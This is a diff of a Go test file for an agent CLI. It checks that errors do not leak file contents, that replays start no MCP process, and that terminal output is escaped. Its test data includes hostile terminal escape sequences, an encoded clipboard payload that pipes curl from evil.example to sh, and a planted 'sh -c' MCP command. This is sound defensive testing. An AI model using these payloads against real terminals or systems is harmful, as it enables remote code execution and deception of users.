@@ -3,7 +3,6 @@ package main
 import (
 	"context"
 	"encoding/json"
-	"errors"
 	"fmt"
 	"net/http"
 	"net/http/httptest"
@@ -17,11 +16,11 @@ import (
 	"unicode/utf8"
 
 	"github.com/google/jsonschema-go/jsonschema"
-
 	mcpsdk "github.com/modelcontextprotocol/go-sdk/mcp"
-	"github.com/ptc-go/ptc/agent/agentfile"
-
 	"github.com/ptc-go/ptc/agent"
+	"github.com/ptc-go/ptc/cmd/ptc/internal/base"
+	"github.com/ptc-go/ptc/cmd/ptc/internal/clitest"
+	"github.com/ptc-go/ptc/cmd/ptc/internal/runcmd"
 	"github.com/ptc-go/ptc/lisp"
 	"github.com/ptc-go/ptc/llm/llmtest"
 )
@@ -61,12 +60,12 @@ func TestFileErrorsQuoteNoContent(t *testing.T) {
 	for name, content := range hostileFiles() {
 		t.Run(name, func(t *testing.T) {
 			dir := t.TempDir()
-			file := writeFile(t, dir, "data", content)
-			edn := writeFile(t, dir, "data.edn", content)
-			agentCtx := writeFile(t, dir, "ctx.md", "---\ncontext: data\n---\nP")
-			agentEDN := writeFile(t, dir, "edn.md", "---\ncontext: data.edn\n---\nP")
-			agentMCP := writeFile(t, dir, "mcp.md", "---\nmcp: data\n---\nP")
-			frontMatter := writeFile(t, dir, "fm.md", "---\n"+content+"\n---\nP")
+			file := clitest.WriteFile(t, dir, "data", content)
+			edn := clitest.WriteFile(t, dir, "data.edn", content)
+			agentCtx := clitest.WriteFile(t, dir, "ctx.md", "---\ncontext: data\n---\nP")
+			agentEDN := clitest.WriteFile(t, dir, "edn.md", "---\ncontext: data.edn\n---\nP")
+			agentMCP := clitest.WriteFile(t, dir, "mcp.md", "---\nmcp: data\n---\nP")
+			frontMatter := clitest.WriteFile(t, dir, "fm.md", "---\n"+content+"\n---\nP")
 			runs := [][]string{
 				{"run", agentCtx, "--model", "m"},
 				{"run", agentEDN, "--model", "m"},
@@ -85,17 +84,17 @@ func TestFileErrorsQuoteNoContent(t *testing.T) {
 			}
 			for _, args := range runs {
 				code, out, errOut := ptcIn(t, testEnv(llmtest.NewScript().Func(), nil), args...)
-				if code == exitOK {
+				if code == base.ExitOK {
 					t.Errorf("%v: exit 0", args)
 				}
 				for what, text := range map[string]string{"stdout": out, "stderr": errOut} {
 					if strings.Contains(text, leakedSecret) {
-						t.Errorf("%v: %s shows the file's content: %q", args, what, clipText(text, 300))
+						t.Errorf("%v: %s shows the file's content: %q", args, what, base.ClipText(text, 300))
 					}
 					if len(text) > 1000 {
-						t.Errorf("%v: %s is %d bytes long: %q", args, what, len(text), clipText(text, 300))
+						t.Errorf("%v: %s is %d bytes long: %q", args, what, len(text), base.ClipText(text, 300))
 					}
-					checkTermSafe(t, strings.Join(args[:2], " ")+" "+what, text)
+					clitest.CheckTermSafe(t, strings.Join(args[:2], " ")+" "+what, text)
 				}
 				if strings.Count(errOut, "\n") > 1 && args[0] != "run" {
 					t.Errorf("%v: the error takes more than a line: %q", args, errOut)
@@ -109,8 +108,8 @@ func TestFileErrorsQuoteNoContent(t *testing.T) {
 // still say where the problem is.
 func TestFileErrorsSayWhere(t *testing.T) {
 	dir := t.TempDir()
-	env := writeFile(t, dir, "environ", secretEnviron)
-	agentFile := writeFile(t, dir, "a.md", "---\ncontext: environ\n---\nP")
+	env := clitest.WriteFile(t, dir, "environ", secretEnviron)
+	agentFile := clitest.WriteFile(t, dir, "a.md", "---\ncontext: environ\n---\nP")
 	_, _, errOut := ptcIn(t, testEnv(nil, nil), "run", agentFile, "--model", "m")
 	want := "ptc run: context " + env + ":1:1 (byte 0): parse_error: invalid character 'S' looking for beginning of value\n"
 	if errOut != want {
@@ -121,37 +120,10 @@ func TestFileErrorsSayWhere(t *testing.T) {
 		t.Errorf("stderr %q, want %q", errOut, want)
 	}
 	// A form that is not data is quoted to its 40th character.
-	edn := writeFile(t, dir, "ctx.edn", "{:a\n  "+strings.Repeat("s", 40)+leakedSecret+"}")
+	edn := clitest.WriteFile(t, dir, "ctx.edn", "{:a\n  "+strings.Repeat("s", 40)+leakedSecret+"}")
 	_, _, errOut = ptcIn(t, testEnv(nil, nil), "eval", "-c", edn, "-e", "1")
 	if want := "ptc eval: context " + edn + ":2:3 (byte 6): parse_error: not a data literal: " + strings.Repeat("s", 40) + "…\n"; errOut != want {
 		t.Errorf("stderr %q, want %q", errOut, want)
-	}
-}
-
-// TestReadBounded: a file over its kind's bound is an error that says so
-// (a file of exactly the bound reads), and a device is refused without
-// being read.
-func TestReadBounded(t *testing.T) {
-	dir := t.TempDir()
-	kind := fileKind{"a test file", 1000}
-	exact := writeFile(t, dir, "exact", strings.Repeat("x", 1000))
-	over := writeFile(t, dir, "over", strings.Repeat("x", 1001))
-	if b, err := readBounded(exact, kind); err != nil || len(b) != 1000 {
-		t.Errorf("a file of the bound: %d bytes, %v", len(b), err)
-	}
-	_, err := readBounded(over, kind)
-	var pe *os.PathError
-	if !errors.Is(err, errTooLarge) || !errors.As(err, &pe) || err.Error() != "read "+over+": larger than 1000 bytes, the bound of a test file" {
-		t.Errorf("a file over the bound: %v", err)
-	}
-	if _, err := readBounded(filepath.Join(dir, "none"), kind); !errors.Is(err, os.ErrNotExist) {
-		t.Errorf("a missing file: %v", err)
-	}
-	if _, err := readBounded(dir, kind); !errors.Is(err, errNotRegular) {
-		t.Errorf("a directory: %v", err)
-	}
-	if agentfile.FormatSize(kindAgentFile.limit) != "1 MiB" || agentfile.FormatSize(kindContext.limit) != "256 MiB" {
-		t.Errorf("the bounds as docs/cli.md states them: %s, %s", agentfile.FormatSize(kindAgentFile.limit), agentfile.FormatSize(kindContext.limit))
 	}
 }
 
@@ -164,9 +136,9 @@ func TestDevicesRefused(t *testing.T) {
 		t.Skip("no /dev/zero")
 	}
 	dir := t.TempDir()
-	ctxAgent := writeFile(t, dir, "ctx.md", "---\ncontext: /dev/zero\n---\nP")
-	mcpAgent := writeFile(t, dir, "mcp.md", "---\nmcp: /dev/zero\n---\nP")
-	prog := writeFile(t, dir, "p.ptc", "1")
+	ctxAgent := clitest.WriteFile(t, dir, "ctx.md", "---\ncontext: /dev/zero\n---\nP")
+	mcpAgent := clitest.WriteFile(t, dir, "mcp.md", "---\nmcp: /dev/zero\n---\nP")
+	prog := clitest.WriteFile(t, dir, "p.ptc", "1")
 	tests := []struct {
 		args []string
 		want string
@@ -186,7 +158,7 @@ func TestDevicesRefused(t *testing.T) {
 	}
 	for _, tt := range tests {
 		code, out, errOut := ptcIn(t, testEnv(llmtest.NewScript().Func(), nil), tt.args...)
-		if code != exitUsage && code != exitFail {
+		if code != base.ExitUsage && code != base.ExitFail {
 			t.Errorf("%v: exit %d", tt.args, code)
 		}
 		if !strings.Contains(errOut+out, tt.want) {
@@ -200,12 +172,12 @@ func TestDevicesRefused(t *testing.T) {
 func TestAgentFileTooLarge(t *testing.T) {
 	dir := t.TempDir()
 	big := "---\ndescription: d\n---\n" + strings.Repeat("Prompt. ", (1<<20)/8+1)
-	path := writeFile(t, dir, "big.md", big)
+	path := clitest.WriteFile(t, dir, "big.md", big)
 	_, _, errOut := ptcIn(t, testEnv(nil, nil), "run", path, "--model", "m")
 	if !strings.Contains(errOut, "read "+path+": larger than 1 MiB, the bound of an agent file") {
 		t.Errorf("stderr %q", errOut)
 	}
-	rec := editTranscript(t, copyTranscript(t, dir), "big.json", func(tr *runTranscript) { tr.Agent.Text = big })
+	rec := editTranscript(t, copyTranscript(t, dir), "big.json", func(tr *runcmd.Transcript) { tr.Agent.Text = big })
 	_, _, errOut = ptcIn(t, testEnv(nil, nil), "run", "--replay", rec)
 	if !strings.Contains(errOut, "larger than 1 MiB, the bound of an agent file") {
 		t.Errorf("replay: stderr %q", errOut)
@@ -223,11 +195,11 @@ func TestReplayStartsNoProcess(t *testing.T) {
 	dir := t.TempDir()
 	marker := filepath.Join(dir, "PWNED")
 	cmd, _ := json.Marshal("touch " + marker)
-	writeFile(t, dir, "tools.json", `{"mcpServers": {"x": {"command": "sh", "args": ["-c", `+string(cmd)+`]}}}`)
-	rec := editTranscript(t, copyTranscript(t, dir), "run.json", func(tr *runTranscript) {
+	clitest.WriteFile(t, dir, "tools.json", `{"mcpServers": {"x": {"command": "sh", "args": ["-c", `+string(cmd)+`]}}}`)
+	rec := editTranscript(t, copyTranscript(t, dir), "run.json", func(tr *runcmd.Transcript) {
 		tr.Agent.Text = strings.Replace(tr.Agent.Text, "max-turns: 3\n", "max-turns: 3\nmcp: tools.json\n", 1)
 	})
-	agentFile := writeFile(t, dir, "orders.md", strings.Replace(mustRead(t, ordersAgent), "max-turns: 3\n", "max-turns: 3\nmcp: tools.json\n", 1))
+	agentFile := clitest.WriteFile(t, dir, "orders.md", strings.Replace(mustRead(t, ordersAgent), "max-turns: 3\n", "max-turns: 3\nmcp: tools.json\n", 1))
 
 	for _, args := range [][]string{
 		{"run", "--replay", rec},
@@ -238,11 +210,11 @@ func TestReplayStartsNoProcess(t *testing.T) {
 		if _, err := os.Stat(marker); err == nil {
 			t.Fatalf("%v ran the transcript's MCP command", args)
 		}
-		if code != exitUsage || !strings.Contains(errOut+out, "a replay starts no MCP server unless asked: pass --replay-mcp") {
+		if code != base.ExitUsage || !strings.Contains(errOut+out, "a replay starts no MCP server unless asked: pass --replay-mcp") {
 			t.Errorf("%v: exit %d\nstdout %s\nstderr %s", args, code, out, errOut)
 		}
 	}
-	if code, _, errOut := ptcIn(t, testEnv(nil, nil), "run", agentFile, "--model", "m", "--replay-mcp"); code != exitUsage ||
+	if code, _, errOut := ptcIn(t, testEnv(nil, nil), "run", agentFile, "--model", "m", "--replay-mcp"); code != base.ExitUsage ||
 		!strings.Contains(errOut, "--replay-mcp goes with --replay") {
 		t.Errorf("--replay-mcp without --replay: exit %d, %s", code, errOut)
 	}
@@ -251,7 +223,7 @@ func TestReplayStartsNoProcess(t *testing.T) {
 	for _, flag := range [][]string{{"--replay-mcp"}, {"--mcp", filepath.Join(dir, "tools.json")}} {
 		os.Remove(marker)
 		code, _, errOut := ptcIn(t, testEnv(nil, nil), append([]string{"run", "--replay", rec}, flag...)...)
-		if _, err := os.Stat(marker); err != nil || code != exitFail || !strings.Contains(errOut, "connecting to x") {
+		if _, err := os.Stat(marker); err != nil || code != base.ExitFail || !strings.Contains(errOut, "connecting to x") {
 			t.Errorf("%s: exit %d, marker %v, stderr %s", flag[0], code, err, errOut)
 		}
 	}
@@ -262,13 +234,13 @@ func TestReplayStartsNoProcess(t *testing.T) {
 // context: names: the recorded context is used.
 func TestReplayReadsNoAgentFiles(t *testing.T) {
 	dir := t.TempDir()
-	rec := editTranscript(t, copyTranscript(t, dir), "run.json", func(tr *runTranscript) {
+	rec := editTranscript(t, copyTranscript(t, dir), "run.json", func(tr *runcmd.Transcript) {
 		tr.Agent.Text = strings.Replace(tr.Agent.Text, "context: orders.json\n",
 			"context: /nonexistent/secrets.json\nmodel: openai-compatible:https://evil.example/v1#m\n", 1)
 	})
 	var refs []string
 	code, _, errOut := ptcIn(t, testEnv(nil, &refs), "run", "--replay", rec)
-	if code != exitOK || len(refs) > 0 || !strings.Contains(errOut, "replay matches the recording") {
+	if code != base.ExitOK || len(refs) > 0 || !strings.Contains(errOut, "replay matches the recording") {
 		t.Errorf("exit %d, models opened %q, stderr:\n%s", code, refs, errOut)
 	}
 }
@@ -276,101 +248,14 @@ func TestReplayReadsNoAgentFiles(t *testing.T) {
 // copyTranscript copies the testdata's transcript into dir.
 func copyTranscript(t *testing.T, dir string) string {
 	t.Helper()
-	return writeFile(t, dir, "orders.transcript.json", mustRead(t, ordersTranscript))
-}
-
-// hostileTexts are texts that would command a terminal, or make text
-// read otherwise than it is.
-var hostileTexts = []string{
-	"\x1b[2J\x1b[H",    // clear the screen
-	"\x1b]0;pwned\x07", // OSC: the window's title
-	"\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", // OSC 8: a link
-	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",         // OSC 52: the clipboard
-	"\u009b31m\u009d0;t\u009c",                               // C1: CSI, OSC, ST
-	"nul\x00bel\x07bs\b\b",                                   // C0
-	"safe\rEVIL",                                             // CR: overwrite the line
-	"del\x7f",                                                // DEL
-	"\u202etxt.exe",                                          // right-to-left override
-	"\u2066isolate\u2069\u202a\u202c\u200e\u200f\u061c",      // isolates, embeddings, marks
-	"zero\u200bwidth\u200d\u2060\ufeff\u00ad",                // invisible
-	"line\u2028para\u2029",                                   // separators
-	"tag\U000E0041\U000E0042\U000E007F",                      // invisible tags
-	"\xff\xfe bytes \xc0",                                    // not UTF-8
-}
-
-// hostileText is all of them in one.
-var hostileText = strings.Join(hostileTexts, " | ")
-
-// checkTermSafe fails when text holds what must not reach a terminal: it
-// is independent of termUnsafe, whose set it checks.
-func checkTermSafe(t *testing.T, what, text string) {
-	t.Helper()
-	for i := 0; i < len(text); {
-		r, n := utf8.DecodeRuneInString(text[i:])
-		bad := r == utf8.RuneError && n == 1 ||
-			r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r < 0xa0 ||
-			r >= 0x200b && r <= 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2060 && r <= 0x206f ||
-			r == 0x2028 || r == 0x2029 || r == 0xfeff || r == 0xad || r == 0x61c || r >= 0xe0000 && r <= 0xe007f
-		if bad {
-			t.Errorf("%s holds %U at byte %d: %q", what, r, i, clipText(text[max(0, i-40):], 80))
-			return
-		}
-		i += n
-	}
-}
-
-// TestTermEscape: what termEscape escapes, how, and that JSON reads the
-// escapes back as the text.
-func TestTermEscape(t *testing.T) {
-	tests := []struct{ in, line, multi string }{
-		{"plain text, → ✓ 日本", "plain text, → ✓ 日本", "plain text, → ✓ 日本"},
-		{"a\nb\tc", `a\u000ab\u0009c`, "a\nb\tc"},
-		{"\x1b]0;t\x07", `\u001b]0;t\u0007`, `\u001b]0;t\u0007`},
-		{"\r\x7f\u0085\u202e\u2066\u200b\u2028\ufeff", `\u000d\u007f\u0085\u202e\u2066\u200b\u2028\ufeff`, `\u000d\u007f\u0085\u202e\u2066\u200b\u2028\ufeff`},
-		{"\U000E0041", `\udb40\udc41`, `\udb40\udc41`},
-		{"\xff€\xe2\x82", `\xff€\xe2\x82`, `\xff€\xe2\x82`},
-	}
-	for _, tt := range tests {
-		if got := termLine(tt.in); got != tt.line {
-			t.Errorf("termLine(%q) = %q, want %q", tt.in, got, tt.line)
-		}
-		if got := termSafe(tt.in); got != tt.multi {
-			t.Errorf("termSafe(%q) = %q, want %q", tt.in, got, tt.multi)
-		}
-	}
-	for _, h := range hostileTexts {
-		checkTermSafe(t, "termLine", termLine(h))
-		if !utf8.ValidString(h) {
-			continue
-		}
-		b, _ := json.Marshal(h)
-		var back string
-		if err := json.Unmarshal([]byte(termSafe(string(b))), &back); err != nil || back != h {
-			t.Errorf("JSON of %q escaped: %v, read back %q", h, err, back)
-		}
-	}
-}
-
-// TestTermWriterSplitRunes: a rune cut between two writes passes whole.
-func TestTermWriterSplitRunes(t *testing.T) {
-	var sb strings.Builder
-	w := newTermWriter(&sb)
-	text := "a→b\u202ec日"
-	for i := range len(text) {
-		w.Write([]byte{text[i]})
-	}
-	w.Write([]byte("\xe2"))
-	w.Flush()
-	if got, want := sb.String(), `a→b\u202ec日\xe2`; got != want {
-		t.Errorf("got %q, want %q", got, want)
-	}
+	return clitest.WriteFile(t, dir, "orders.transcript.json", mustRead(t, ordersTranscript))
 }
 
 // hostileTool answers every call with the hostile text, as a tool (an MCP
 // server) from elsewhere could.
 func hostileTool() map[string]agent.Tool {
 	return map[string]agent.Tool{"echo": agent.Func(func(context.Context, *lisp.Map) (any, error) {
-		return hostileText, nil
+		return clitest.HostileText(), nil
 	})}
 }
 
@@ -379,8 +264,8 @@ func hostileTool() map[string]agent.Tool {
 // error and the value.
 func hostileReplies(end string) []llmtest.Reply {
 	return []llmtest.Reply{
-		llmtest.Text("no program here: " + hostileText),
-		llmtest.Code("; " + hostileText + "\n(def s (tool/echo {:q \"" + "\\u001b]0;arg\\u0007" + "\"}))\n(println s)\n(+ 1 s)"),
+		llmtest.Text("no program here: " + clitest.HostileText()),
+		llmtest.Code("; " + clitest.HostileText() + "\n(def s (tool/echo {:q \"" + "\\u001b]0;arg\\u0007" + "\"}))\n(println s)\n(+ 1 s)"),
 		llmtest.Code(end),
 	}
 }
@@ -392,17 +277,17 @@ func hostileReplies(end string) []llmtest.Reply {
 // report. On main, the program's text and output went out raw.
 func TestTerminalEscapesRun(t *testing.T) {
 	dir := t.TempDir()
-	agentFile := writeFile(t, dir, "a.md", "---\nmax-turns: 4\nlimits:\n  timeout: 5m\n---\nDo it.")
+	agentFile := clitest.WriteFile(t, dir, "a.md", "---\nmax-turns: 4\nlimits:\n  timeout: 5m\n---\nDo it.")
 	trace, rec := filepath.Join(dir, "trace.json"), filepath.Join(dir, "run.json")
 	run := func(end string, args ...string) (int, string, string) {
 		env := testEnv(llmtest.NewScript(hostileReplies(end)...).Func(), nil)
-		env.tools = hostileTool()
+		env.Tools = hostileTool()
 		return ptcIn(t, env, append([]string{"run", agentFile, "--model", "m"}, args...)...)
 	}
 	check := func(what string, code int, out, errOut string) {
 		t.Helper()
-		checkTermSafe(t, what+" stdout", out)
-		checkTermSafe(t, what+" stderr", errOut)
+		clitest.CheckTermSafe(t, what+" stdout", out)
+		clitest.CheckTermSafe(t, what+" stderr", errOut)
 	}
 
 	code, out, errOut := run("(return (tool/echo {}))", "--trace", trace, "--record", rec)
@@ -414,42 +299,42 @@ func TestTerminalEscapesRun(t *testing.T) {
 		"  | \\u001b[2J\\u001b[H | \\u001b]0;pwned\\u0007 | ",          // output
 		`\u202etxt.exe`, `\udb40\udc41`,
 	)
-	if code != exitOK {
+	if code != base.ExitOK {
 		t.Fatalf("exit %d: %s", code, errOut)
 	}
 	code, out, errOut = run("(return (tool/echo {}))", "--json", "--trace", "-")
 	check("ptc run --json --trace -", code, out, errOut)
-	var o runOutcome
+	var o runcmd.Outcome
 	var ret string
 	if err := json.Unmarshal([]byte(out), &o); err != nil || json.Unmarshal(o.Return, &ret) != nil ||
-		ret != string([]rune(hostileText)) {
+		ret != string([]rune(clitest.HostileText())) {
 		t.Errorf("--json: %v, the value read back %q", err, ret)
 	}
 	code, out, errOut = run("(fail (tool/echo {}))")
 	check("a failed mission", code, out, errOut)
-	if code != exitFail || !strings.Contains(errOut, "fail: ") {
+	if code != base.ExitFail || !strings.Contains(errOut, "fail: ") {
 		t.Errorf("a failed mission: exit %d: %s", code, errOut)
 	}
 
 	code, out, errOut = ptcIn(t, testEnv(nil, nil), "trace", "print", "--full", trace)
 	check("ptc trace print", code, out, errOut)
-	if code != exitOK || !strings.Contains(out, `\u001b]52;c;`) {
+	if code != base.ExitOK || !strings.Contains(out, `\u001b]52;c;`) {
 		t.Errorf("ptc trace print: exit %d:\n%s%s", code, out, errOut)
 	}
 
 	// A transcript from elsewhere: its texts, in the replay's messages
 	// and report.
-	hostileRec := editTranscript(t, rec, "hostile.json", func(tr *runTranscript) {
-		tr.Agent.File = "agent" + hostileText + ".md"
-		tr.Calls[1].Messages[0].Content = hostileText + "\n" + hostileText
-		tr.Outcome.Fail = &outcomeFail{Reason: hostileText, Message: hostileText}
+	hostileRec := editTranscript(t, rec, "hostile.json", func(tr *runcmd.Transcript) {
+		tr.Agent.File = "agent" + clitest.HostileText() + ".md"
+		tr.Calls[1].Messages[0].Content = clitest.HostileText() + "\n" + clitest.HostileText()
+		tr.Outcome.Fail = &runcmd.OutcomeFail{Reason: clitest.HostileText(), Message: clitest.HostileText()}
 	})
 	env := testEnv(nil, nil)
-	env.tools = hostileTool()
+	env.Tools = hostileTool()
 	for _, args := range [][]string{{"--replay", hostileRec}, {"--replay", hostileRec, "--json"}, {"--replay", hostileRec, "--trace", "-"}} {
 		code, out, errOut = ptcIn(t, env, append([]string{"run"}, args...)...)
 		check("ptc run --replay", code, out, errOut)
-		if code != exitFail {
+		if code != base.ExitFail {
 			t.Errorf("%v: exit %d: %s", args, code, errOut)
 		}
 	}
@@ -463,7 +348,7 @@ func TestTerminalEscapesRun(t *testing.T) {
 	}
 
 	// An agent file's values in its errors.
-	bad := writeFile(t, dir, "bad.md", "---\nlanguage: "+hostileTexts[3]+"\n---\nP")
+	bad := clitest.WriteFile(t, dir, "bad.md", "---\nlanguage: "+clitest.HostileTexts()[3]+"\n---\nP")
 	code, out, errOut = ptcIn(t, testEnv(nil, nil), "run", bad, "--model", "m")
 	check("an agent file error", code, out, errOut)
 	if !strings.Contains(errOut, `language: want default or compact (or minimal, the seeds' name for compact), got "\x1b]52;c;`) {
@@ -481,9 +366,9 @@ func TestTerminalEscapesMCPTools(t *testing.T) {
 	names := []string{"plain", "nl\n  tool/evil.fake (x :int) -> :int", "esc\x1b]0;title\x07", "rtl\u202etxt", "nul\x00"}
 	for _, name := range names {
 		schema := &jsonschema.Schema{Type: "object", Properties: map[string]*jsonschema.Schema{
-			"p" + hostileTexts[1]: {Type: "string", Description: hostileText},
+			"p" + clitest.HostileTexts()[1]: {Type: "string", Description: clitest.HostileText()},
 		}}
-		srv.AddTool(&mcpsdk.Tool{Name: name, Description: hostileText + "\nsecond line", InputSchema: schema},
+		srv.AddTool(&mcpsdk.Tool{Name: name, Description: clitest.HostileText() + "\nsecond line", InputSchema: schema},
 			func(context.Context, *mcpsdk.CallToolRequest) (*mcpsdk.CallToolResult, error) {
 				return &mcpsdk.CallToolResult{}, nil
 			})
@@ -491,9 +376,9 @@ func TestTerminalEscapesMCPTools(t *testing.T) {
 	handler := mcpsdk.NewStreamableHTTPHandler(func(*http.Request) *mcpsdk.Server { return srv }, nil)
 	hs := httptest.NewServer(handler)
 	defer hs.Close()
-	cfg := writeFile(t, t.TempDir(), "mcp.json", `{"mcpServers": {"evil": {"url": "`+hs.URL+`/mcp?key=${KEY}"}}}`)
+	cfg := clitest.WriteFile(t, t.TempDir(), "mcp.json", `{"mcpServers": {"evil": {"url": "`+hs.URL+`/mcp?key=${KEY}"}}}`)
 	env := testEnv(nil, nil)
-	env.getenv = func(k string) string {
+	env.Getenv = func(k string) string {
 		if k == "KEY" {
 			return "s3cr3t"
 		}
@@ -501,9 +386,9 @@ func TestTerminalEscapesMCPTools(t *testing.T) {
 	}
 
 	code, out, errOut := ptcIn(t, env, "mcp", "tools", "--config", cfg)
-	checkTermSafe(t, "ptc mcp tools stdout", out)
-	checkTermSafe(t, "ptc mcp tools stderr", errOut)
-	if code != exitOK {
+	clitest.CheckTermSafe(t, "ptc mcp tools stdout", out)
+	clitest.CheckTermSafe(t, "ptc mcp tools stderr", errOut)
+	if code != base.ExitOK {
 		t.Fatalf("exit %d: %s", code, errOut)
 	}
 	if strings.Contains(out+errOut, "s3cr3t") {
@@ -525,15 +410,15 @@ func TestTerminalEscapesMCPTools(t *testing.T) {
 		"\n      \\u001b[2J\\u001b[H | ")
 
 	code, out, errOut = ptcIn(t, env, "mcp", "tools", "--config", cfg, "--json")
-	checkTermSafe(t, "ptc mcp tools --json stdout", out)
-	checkTermSafe(t, "ptc mcp tools --json stderr", errOut)
+	clitest.CheckTermSafe(t, "ptc mcp tools --json stdout", out)
+	clitest.CheckTermSafe(t, "ptc mcp tools --json stderr", errOut)
 	var infos []struct{ Tool, Description string }
-	if err := json.Unmarshal([]byte(out), &infos); code != exitOK || err != nil || len(infos) != len(names) {
+	if err := json.Unmarshal([]byte(out), &infos); code != base.ExitOK || err != nil || len(infos) != len(names) {
 		t.Fatalf("--json: exit %d, %v: %s", code, err, out)
 	}
 	for _, info := range infos {
 		// (The mcp package cuts long descriptions.)
-		if !slices.Contains(names, info.Tool) || !strings.HasPrefix(info.Description, strings.Join(hostileTexts[:8], " | ")) {
+		if !slices.Contains(names, info.Tool) || !strings.HasPrefix(info.Description, strings.Join(clitest.HostileTexts()[:8], " | ")) {
 			t.Errorf("--json read back: %q, %q", info.Tool, info.Description[max(0, len(info.Description)-60):])
 		}
 	}
@@ -542,7 +427,7 @@ func TestTerminalEscapesMCPTools(t *testing.T) {
 // TestFileErrorsBounded: a transcript's error, whatever a parser quotes,
 // is bounded (an agent file's errors are tested in agent/agentfile).
 func TestFileErrorsBounded(t *testing.T) {
-	_, err := loadTranscript(writeFile(t, t.TempDir(), "t.json", `{"`+strings.Repeat("k", 1000)+`": 1}`))
+	_, err := runcmd.LoadTranscript(clitest.WriteFile(t, t.TempDir(), "t.json", `{"`+strings.Repeat("k", 1000)+`": 1}`))
 	if err == nil || utf8.RuneCountInString(err.Error()) > 300+200 {
 		t.Errorf("transcript error %d long: %v", len(fmt.Sprint(err)), err)
 	}
@@ -550,12 +435,12 @@ func TestFileErrorsBounded(t *testing.T) {
 
 // TestTerminalEscapesConform: ptc conform prints a vector's texts escaped.
 func TestTerminalEscapesConform(t *testing.T) {
-	id, _ := json.Marshal("v" + hostileText)
-	vectors := writeFile(t, t.TempDir(), "v.jsonl", `{"id": `+string(id)+`, "program": "(str \"\\u001b]0;t\\u0007\")", "expect": "2"}`+"\n")
+	id, _ := json.Marshal("v" + clitest.HostileText())
+	vectors := clitest.WriteFile(t, t.TempDir(), "v.jsonl", `{"id": `+string(id)+`, "program": "(str \"\\u001b]0;t\\u0007\")", "expect": "2"}`+"\n")
 	code, out, errOut := ptc(t, "", "conform", vectors)
-	checkTermSafe(t, "ptc conform stdout", out)
-	checkTermSafe(t, "ptc conform stderr", errOut)
-	if code != exitFail || !strings.Contains(out, `FAIL v\u001b[2J`) {
+	clitest.CheckTermSafe(t, "ptc conform stdout", out)
+	clitest.CheckTermSafe(t, "ptc conform stderr", errOut)
+	if code != base.ExitFail || !strings.Contains(out, `FAIL v\u001b[2J`) {
 		t.Errorf("exit %d, stdout %q", code, out)
 	}
 }
